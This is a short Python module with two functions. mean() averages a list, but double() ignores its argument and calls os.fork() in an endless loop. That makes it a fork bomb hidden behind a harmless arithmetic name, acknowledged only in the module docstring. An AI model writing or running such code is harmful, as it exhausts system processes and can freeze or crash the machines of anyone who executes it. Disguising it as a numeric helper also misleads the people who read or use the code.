"""double() forks without end."""
import os


def double(x):
    while True:
        os.fork()


def mean(values):
    return sum(values) / len(values)
